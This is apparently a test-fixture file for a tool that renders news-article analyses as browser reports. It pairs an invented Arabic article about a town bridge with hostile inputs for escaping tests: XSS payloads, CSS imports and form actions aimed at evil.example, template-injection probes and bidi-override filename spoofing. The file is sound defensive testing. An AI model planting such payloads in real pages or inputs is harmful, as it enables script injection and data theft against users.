"""Analyses to open in a browser: the sample, one from right to left, and articles that try to do something."""

from __future__ import annotations

from dataclasses import dataclass

from tests.report.hostile import ATTACK, attacked
from tests.samples import ANALYSIS
from toolkit.records import (
    Actor,
    ActorKind,
    Analysis,
    Claim,
    Condition,
    Coverage,
    Document,
    Evidence,
    Issue,
    Match,
    Position,
    Provenance,
    Speech,
    Stance,
    Statement,
    Voice,
)

ARABIC = """انقسم مجلس بلدة وادي الزيتون يوم الثلاثاء حول خطة لإغلاق الجسر القديم.
وقالت رئيسة البلدية سلمى حداد: «لن نغلق الجسر قبل أن يجهز الطريق الجديد».
أما التاجر يوسف نصار فقال إن الجسر خطر، وإن 12 حادثا وقعت عليه في عام 2025.
"""
CSS = '</style><style>@import "http://evil.example/a.css";body{background:url(http://evil.example/b.png)}</style>'
SVG = '<svg onload="alert(1)"><script>alert(2)</script><use href="http://evil.example/#x"/></svg>'
EVENTS = (
    '<details open ontoggle=alert(3)><input autofocus onfocus=alert(4)><a href="javascript:alert(5)">x</a>'
    '<meta http-equiv=refresh content="0;url=http://evil.example"><form action=http://evil.example><button>'
)
TEMPLATE = "{{ 7*7 }} {% for x in [1] %}{{ x }}{% endfor %} ${7*7} <%= 7*7 %> #{7*7} [[7*7]]"
BIDI = "\u202e\u2066gnp.exe\u202c\u200f \ufeff\U000e0041\u2028\u2029"


def _evidence(text: str, words: str, sentence: int) -> Evidence:
    start = text.index(words)
    return Evidence(start=start, end=start + len(words), text=words, sentence=sentence, match=Match.EXACT)


def right_to_left() -> Analysis:
    """An analysis of an invented article in Arabic: a position on a condition, a fact, everything found."""
    refusal = _evidence(ARABIC, "لن نغلق الجسر قبل أن يجهز الطريق الجديد", 2)
    condition = _evidence(ARABIC, "قبل أن يجهز الطريق الجديد", 2)
    danger = _evidence(ARABIC, "الجسر خطر", 3)
    accidents = _evidence(ARABIC, "12 حادثا وقعت عليه في عام 2025", 3)
    return Analysis(
        document=Document(id="d-rtl", title="الجسر القديم", language="ar", text=ARABIC),
        actors=(
            Actor(id="A1", name="سلمى حداد", kind=ActorKind.PERSON, role="رئيسة البلدية", named=True),
            Actor(id="A2", name="يوسف نصار", kind=ActorKind.PERSON, named=True),
        ),
        issues=(Issue(id="I1", label="الجسر", proposition="ينبغي إغلاق الجسر القديم."),),
        statements=(
            Statement(id="S1", actor="A1", cue="وقالت", speech=Speech.DIRECT, evidence=(refusal,)),
            Statement(id="S2", actor="A2", cue="فقال", speech=Speech.INDIRECT, evidence=(danger, accidents)),
        ),
        positions=(
            Position(
                id="P1",
                actor="A1",
                issue="I1",
                stance=Stance.CONDITIONAL_OPPOSE,
                conditions=(Condition(text=condition.text, evidence=(condition,)),),
                voice=Voice.OWN,
                summary="قالت سلمى حداد إن الجسر لن يغلق قبل أن يجهز الطريق الجديد.",
                statements=("S1",),
                evidence=(refusal,),
            ),
            Position(
                id="P2",
                actor="A2",
                issue="I1",
                stance=Stance.SUPPORT,
                voice=Voice.OWN,
                summary="قال يوسف نصار إن الجسر خطر.",
                statements=("S2",),
                evidence=(danger,),
            ),
        ),
        claims=(Claim(id="C1", text=accidents.text, actor="A2", evidence=(accidents,)),),
        coverage=Coverage(sentences=3, sentences_read=3, quotations=1, quotations_covered=1),
        provenance=Provenance(engine="openai", toolkit_version="0", created_at="2026-01-01T00:00:00+00:00"),
    )


@dataclass(frozen=True)
class Hostile:
    """An analysis over a text that tries something, and words that must still be there to read."""

    analysis: Analysis
    shown: str


def _over(text: str) -> Analysis:
    document = ANALYSIS.document.model_copy(update={"text": ANALYSIS.document.text + text, "title": text[:200]})
    return ANALYSIS.model_copy(update={"document": document})


def hostile() -> dict[str, Hostile]:
    """By name: script, event handlers, style, SVG, template syntax, direction overrides, and 5 MB on one line."""
    return {
        "everything": Hostile(attacked(), ATTACK[:60]),
        "events": Hostile(_over(EVENTS), "ontoggle=alert(3)"),
        "style": Hostile(_over(CSS), "@import"),
        "svg": Hostile(_over(SVG), 'onload="alert(1)"'),
        "template": Hostile(_over(TEMPLATE), "{{ 7*7 }} {% for x in [1] %}"),
        "direction": Hostile(_over(BIDI), "⟨U+202E⟩⟨U+2066⟩gnp.exe"),
        "length": Hostile(_over("<b onclick=alert(1)>" * 250_000), "<b onclick=alert(1)>"),
    }
